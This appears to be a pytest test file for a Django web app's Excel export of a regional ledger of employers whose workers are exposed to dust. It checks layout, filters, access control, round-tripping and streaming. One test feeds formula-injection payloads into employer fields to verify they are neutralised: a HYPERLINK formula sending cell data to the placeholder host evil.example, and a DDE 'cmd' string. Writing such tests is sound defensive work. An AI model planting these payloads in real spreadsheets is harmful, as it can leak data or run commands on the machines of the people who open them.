"""Export of the ledger the user can see, in the template's layout, streamed by openpyxl's
write-only mode, with formula-like text neutralised."""

import datetime
import io
import tempfile
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from ledger import columns as cols
from ledger import excel, imports
from ledger.models import DustType, EmployerRecord, ImportStatus, RecordDustExposure
from portal.models import Department, Role
from portal.workbook import XLSX_CONTENT_TYPE
from tests.factories import make_user
from tests.ledger.factories import make_employer
from tests.ledger.test_import import validate

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_in_tmp")]


def export(client, query: str = "") -> tuple[openpyxl.Workbook, bytes]:
    response = client.get(reverse("ledger:excel-export") + query)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"]
    content = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content)), content


def data_rows(wb) -> list[dict]:
    ws = wb["台帐"]
    assert [c.value for c in ws[cols.HEADER_ROW]] == cols.HEADERS
    return [dict(zip(cols.HEADERS, row, strict=False)) for row in ws.iter_rows(min_row=cols.DATA_START_ROW, values_only=True)]


@pytest.fixture
def ledger(clerk, open_submission, period_2020h1):
    """Two employers in 东昌府区 (with facts of 2020H1), one in the sibling 阳谷县."""
    cement = make_employer(county="371502", township="371502001", name="东昌府区鑫达水泥有限公司",
                           legal_representative_phone="0635-8888888", in_governance_scope=True)
    foundry = make_employer(county="371502", name="东昌府区铸造厂", industry="3391", status="suspended")
    make_employer(county="371521", name="阳谷县石材厂")
    # The period was opened before these employers existed: give them their records of it.
    for employer in (cement, foundry):
        EmployerRecord.objects.create(employer=employer, period=period_2020h1, province_id=employer.province_id,
                                      city_id=employer.city_id, county_id=employer.county_id,
                                      township_id=employer.township_id)
    record = EmployerRecord.objects.get(employer=cement)
    EmployerRecord.objects.filter(pk=record.pk).update(
        total_workers=50, exposed_workers=20, hazard_declared=True, declared_on=datetime.date(2020, 3, 15),
        exam_due=20, exam_done=18, warning_signs=True, serious_hazard_posts=4, posts_with_warning_signs=3)
    RecordDustExposure.objects.create(record=record, dust_type=DustType.objects.get(name="矽尘"), exposed_workers=12)
    RecordDustExposure.objects.create(record=record, dust_type=DustType.objects.get(name="水泥粉尘"), exposed_workers=8)
    return cement, foundry


def test_the_export_is_the_clerks_ledger_in_the_template_layout(client, clerk, ledger):
    client.force_login(clerk)
    wb, _content = export(client, "?period=2020H1")
    assert wb.sheetnames == ["台帐", "填表说明", "行业代码"]
    assert wb["台帐"]["A1"].value == "东昌府区存在粉尘危害用人单位信息台帐"
    assert "2020年上半年" in wb["台帐"]["A2"].value
    rows = data_rows(wb)
    assert [r["单位名称"] for r in rows] == ["东昌府区鑫达水泥有限公司", "东昌府区铸造厂"]  # not the sibling county's
    cement, foundry = rows
    assert cement["序号"] == 1 and cement["区划代码"] == "371502" and cement["乡镇（街道）"] == "古楼街道"
    assert cement["行业代码"] == "3011" and cement["行业名称"] == "水泥制造" and cement["重点行业类别"] == "建材"
    assert (cement["企业规模"], cement["经济类型"], cement["经营状态"], cement["是否纳入治理范围"]) == ("小型", "私营", "正常", "是")
    assert (cement["职工总人数"], cement["接尘人数"], cement["应检人数"], cement["实检人数"]) == (50, 20, 20, 18)
    assert cement["是否申报"] == "是" and cement["申报日期"].date() == datetime.date(2020, 3, 15)
    assert cement["粉尘种类及接尘人数"] == "矽尘:12；水泥粉尘:8"
    assert cement["法定代表人电话"] == "0635-8888888"
    assert foundry["经营状态"] == "停产整顿" and foundry["是否申报"] == "否" and foundry["职工总人数"] == 0
    assert (cement["严重职业病危害作业岗位数"], cement["设置警示标识的岗位数"]) == (4, 3)
    assert (foundry["严重职业病危害作业岗位数"], foundry["设置警示标识的岗位数"]) == (None, None)  # kept by employer


def test_the_export_follows_the_list_filters(client, clerk, ledger):
    client.force_login(clerk)
    wb, _ = export(client, "?period=2020H1&q=铸造")
    assert [r["单位名称"] for r in data_rows(wb)] == ["东昌府区铸造厂"]
    wb, _ = export(client, "?period=2020H1&status=operating&in_scope=1")
    assert [r["单位名称"] for r in data_rows(wb)] == ["东昌府区鑫达水泥有限公司"]


def test_a_city_viewer_exports_the_city_or_one_county(client, ledger):
    viewer = make_user(("3715", Department.HRSS, Role.VIEWER))
    client.force_login(viewer)
    wb, _ = export(client, "?period=2020H1")
    assert {r["单位名称"] for r in data_rows(wb)} == {"东昌府区鑫达水泥有限公司", "东昌府区铸造厂", "阳谷县石材厂"}
    assert wb["台帐"]["A1"].value == "聊城市存在粉尘危害用人单位信息台帐"
    wb, _ = export(client, "?period=2020H1&county=371521")
    rows = data_rows(wb)
    assert [r["单位名称"] for r in rows] == ["阳谷县石材厂"]
    assert rows[0]["职工总人数"] is None  # no record in that period: the facts stay empty
    assert wb["台帐"]["A1"].value == "阳谷县存在粉尘危害用人单位信息台帐"


def test_a_region_outside_the_scope_is_refused(client, clerk, ledger):
    client.force_login(clerk)
    assert client.get(reverse("ledger:excel-export") + "?county=371521").status_code == 403
    assert client.get(reverse("ledger:excel-export") + "?region=999999").status_code == 403


def test_the_export_needs_the_view_capability(client, ledger):
    assert client.get(reverse("ledger:excel-export")).status_code == 302
    client.force_login(make_user())
    assert client.get(reverse("ledger:excel-export")).status_code == 403


def test_formula_like_text_comes_out_inert(client, clerk, ledger):
    cement, _foundry = ledger
    cement.name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
    cement.business_scope = "+cmd|' /C calc'!A0"
    cement.legal_representative = "@SUM(1+1)"
    cement.registered_address = "-2+3"
    cement.health_manager = "\t=1+1"
    cement.workplace_address = "东昌府区\x0b工业园区\x1b1号"  # control characters XML cannot hold
    cement.save()
    client.force_login(clerk)
    wb, content = export(client, "?period=2020H1")
    ws = wb["台帐"]
    row = next(r for r in ws.iter_rows(min_row=cols.DATA_START_ROW) if r[3].value.startswith("=HYPERLINK"))
    for header in ("单位名称", "经营范围", "法定代表人", "注册地址", "职业健康管理人员"):
        cell = row[cols.HEADERS.index(header)]
        assert cell.data_type == "s", header  # a string, never a formula
        assert cell.quotePrefix, header  # Excel's invisible apostrophe: stays text when edited
    assert row[3].value == cement.name  # the text itself is kept as typed
    assert row[cols.HEADERS.index("作业场所地址")].value == "东昌府区工业园区1号"
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml


def test_an_export_imports_back_unchanged(client, clerk, ledger, period_2020h1):
    client.force_login(clerk)
    _wb, content = export(client, "?period=2020H1")
    job = validate(clerk, period_2020h1, content)
    assert job.status == ImportStatus.VALIDATED, job.errors
    assert (job.rows_created, job.rows_updated) == (0, 2)
    versions = list(EmployerRecord.objects.order_by("pk").values_list("version", flat=True))
    job = imports.LEDGER.commit(actor=clerk, job=job)
    assert (job.status, job.rows_created, job.rows_updated) == (ImportStatus.DONE, 0, 0)
    assert list(EmployerRecord.objects.order_by("pk").values_list("version", flat=True)) == versions
    # Posts and their absence (a record counted by employer) come back as they were.
    assert sorted(EmployerRecord.objects.values_list("serious_hazard_posts", "posts_with_warning_signs"),
                  key=str) == [(4, 3), (None, None)]


def test_the_writer_streams_rows_in_write_only_mode():
    """Rows come from a generator and go to disk as they are written: memory stays flat."""
    def rows(n):
        for i in range(n):
            yield [i, "371502", "古楼街道", f"单位{i}", None, None, "地址" * 20, "地址", "3011", "水泥制造", "建材",
                   "小型", "私营", "经营范围" * 10, "张三", "13800000000", "李四", "13900000000", "正常", "是",
                   *([7] * 23)]

    def peak(n):
        tracemalloc.start()
        with tempfile.TemporaryFile() as sink:  # as the export view does
            written = excel.write_ledger(sink, region_name="东昌府区", rows=rows(n), expected_rows=n)
        _current, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert written == n
        return top

    small, large = peak(200), peak(4000)
    assert large < small * 2, (small, large)  # 20× the rows, not 20× the memory


def test_the_sheet_declares_its_size():
    with io.BytesIO() as sink:
        excel.write_ledger(sink, region_name=None, rows=[[1] * len(cols.COLUMNS)] * 3, expected_rows=3)
        xml = zipfile.ZipFile(sink).read("xl/worksheets/sheet1.xml").decode()
    last = openpyxl.utils.get_column_letter(len(cols.COLUMNS))
    assert f'<dimension ref="A1:{last}{cols.DATA_START_ROW + 2}"' in xml


def test_a_large_export_is_written_in_the_background(client, clerk, ledger, settings, monkeypatch):
    from portal import tasks

    settings.PNEUMO_EXPORT_INLINE_MAX_ROWS = 1
    queued = []
    monkeypatch.setattr(tasks.export_write, "apply_async", lambda args, kwargs, **options: queued.append(args))
    client.force_login(clerk)
    response = client.get(reverse("ledger:excel-export") + "?period=2020H1")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    body = response.content.decode()
    assert 'data-testid="export-status"' in body and 'hx-trigger="every 2s"' in body
    [(token, kind, user_id, params, language)] = queued
    assert (kind, user_id, params, language) == ("ledger", clerk.pk, {"period": "2020H1"}, "zh-hans")
    status = reverse("export-status", args=[token])
    assert 'data-status="pending"' in client.get(status).content.decode()

    tasks.export_write.run(token, kind, user_id, params, language)  # what the worker does

    assert 'data-testid="export-download"' in client.get(status).content.decode()
    download = client.get(reverse("export-download", args=[token]))
    assert download.status_code == 200 and "attachment" in download["Content-Disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert [r["单位名称"] for r in data_rows(wb)] == ["东昌府区鑫达水泥有限公司", "东昌府区铸造厂"]

    other = make_user("371502", role=Role.VIEWER)
    client.force_login(other)  # the token is not enough: only the user who asked sees the file
    assert client.get(status).status_code == 404
    assert client.get(reverse("export-download", args=[token])).status_code == 404
